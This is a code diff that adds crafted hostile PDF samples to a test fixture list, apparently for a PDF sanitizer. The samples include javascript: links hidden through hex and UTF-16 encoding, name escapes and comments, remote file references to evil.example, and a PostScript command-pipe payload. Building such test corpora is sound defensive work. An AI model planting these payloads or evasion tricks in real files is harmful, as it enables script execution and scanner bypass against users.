@@ -184,6 +184,62 @@ export const hostileFiles: readonly HostileFile[] = [
   pdf('PDF with rich media', () => pdfWith('', ['<</Subtype/RichMedia/RichMediaContent 6 0 R>>'])),
   pdf('PDF with an XFA form', () => pdfWith('/AcroForm<</XFA 5 0 R>>', [streamOf('<xdp:xdp/>')])),
   pdf('PDF that sends a form away', () => pdfWith('', ['<</S/SubmitForm/F(https://evil.example)>>'])),
+  pdf('PDF whose rich media is set up by itself', () => pdfWith('', ['<</Type/3D/OnInstantiate 6 0 R>>'])),
+  pdf('PDF that gives an order to rich media', () =>
+    pdfWith('', ['<</S/RichMediaExecute/TA 6 0 R/CMD<</C(go)>>>>']),
+  ),
+  pdf('PDF that goes to a thread of another file', () =>
+    pdfWith('', ['<</S/Thread/F(//evil.example/x)/D 0>>']),
+  ),
+  pdf('PDF that goes to a thread, its name in codes behind a blank', () =>
+    pdfWith('', ['<</S /Thre#61d/D 0>>']),
+  ),
+  pdf('PDF that goes to a thread, a comment before its name', () =>
+    pdfWith('', ['<</S % a note\n /Thread/D 0>>']),
+  ),
+  pdf('PDF with a paper clip', () => pdfWith('', ['<</Type/Annot/Subtype/FileAttachment/FS 6 0 R>>'])),
+  pdf('PDF that shows a page of another file', () =>
+    pdfWith('', [streamOf('', '/Subtype/Form/BBox[0 0 1 1]/Ref<</F(//evil.example/x.pdf)/Page 0>>')]),
+  ),
+  pdf('PDF that shows a page of a file named elsewhere', () =>
+    pdfWith('', [streamOf('', '/Subtype/Form/BBox[0 0 1 1]/R#65f 6 0 R'), '<</F 7 0 R/Page 0>>']),
+  ),
+  pdf('PDF with a film of another file', () =>
+    pdfWith('', ['<</Type/MediaClip/S/MCD/D(//evil.example/x)>>']),
+  ),
+  pdf('PDF with a film of no type', () => pdfWith('', ['<</N(film)/S/MCD/D 6 0 R>>'])),
+  pdf('PDF with a program of PostScript', () =>
+    pdfWith('', [streamOf('(%pipe%id) (r) file', '/Type/XObject/Subtype/PS')]),
+  ),
+  pdf('PDF with a program of PostScript in a form', () =>
+    pdfWith('', [streamOf('', '/Subtype/Form/BBox[0 0 1 1]/Subtype2 /PS')]),
+  ),
+  pdf('PDF with a script behind a link', () => pdfWith('', ['<</S/URI/URI(javascript:app.alert\\(1\\))>>'])),
+  pdf('PDF with a script behind a link, spelt with blanks and capitals', () =>
+    pdfWith('', ['<</S/URI/URI( Java\\\nScript\\072 alert\\(1\\))>>']),
+  ),
+  pdf('PDF with a script behind a link in hexadecimal', () =>
+    pdfWith('', ['<</S/URI/UR#49 <6A6176 6173 6372697074 3A61>>>']),
+  ),
+  pdf('PDF with a script behind a link in two bytes a letter', () =>
+    pdfWith('', ['<</S/URI/URI<FEFF006A006100760061007300630072006900700074003A>>>']),
+  ),
+  pdf('PDF with a script behind a link whose address is elsewhere', () =>
+    pdfWith('', ['<</S/URI/URI 6 0 R>>', '(javascript:alert\\(1\\))']),
+  ),
+  pdf('PDF with a script behind a link in an object stream', () =>
+    pdfWith('', [objectStream('<</S/URI/URI(javascript:alert\\(1\\))>>')]),
+  ),
+  pdf('PDF that opens an address from a list', () =>
+    pdfWith('/OpenAction [ <</S/URI/URI(https://evil.example)>> ]'),
+  ),
+  pdf('PDF that opens an address from a list, behind a comment', () =>
+    pdfWith('/OpenAction[ % 3 0 R\n<</S/URI/URI(https://evil.example)>>]'),
+  ),
+  pdf('PDF with a thread behind more comments than one reads', () =>
+    pdfWith('', [`<</S${'% a\n'.repeat(9)}/Thread/D 0>>`]),
+  ),
+  pdf('PDF that begins with a list elsewhere in a list', () => pdfWith('/OpenAction[[5 0 R]]')),
   pdf('PDF with an object behind a comment that looks like a stream', () =>
     pdfOf([
       '<</Type/Catalog/Filter/FlateDecode>>\n% stream\n9 0 obj <</JS(app.alert\\(1\\))>> endobj\n% endstream',
